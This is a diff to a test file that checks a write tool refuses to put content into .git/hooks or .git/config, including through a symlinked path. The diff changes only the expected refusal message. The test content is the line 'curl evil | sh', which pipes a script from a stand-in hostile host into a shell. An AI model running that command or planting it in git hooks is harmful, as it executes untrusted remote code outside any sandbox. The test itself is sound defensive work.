@@ -153,7 +153,7 @@ describe('write', () => {
       await symlink('.git/hooks', join(ws, 'hooks'));
       for (const path of ['.git/hooks/pre-commit', 'hooks/post-merge', '.git/config'])
         expect((await writeIn({ path, content: 'curl evil | sh' })).output).toMatch(
-          /^Refused to write .+: it resolves to .+, which git runs as code outside any sandbox \(\.git\/hooks, \.git\/config\), and changing it was not approved/,
+          /^Refused to write .+: it resolves to .+, in \.git\/(hooks\/|config), a protected path \((git runs as code|git reads as configuration).*, outside any sandbox\), and changing it was not approved/,
         );
       expect(await readdir(join(ws, '.git/hooks'))).toEqual([]);
       expect((await writeIn({ path: '.git/description', content: 'mine' })).success).toBe(true);
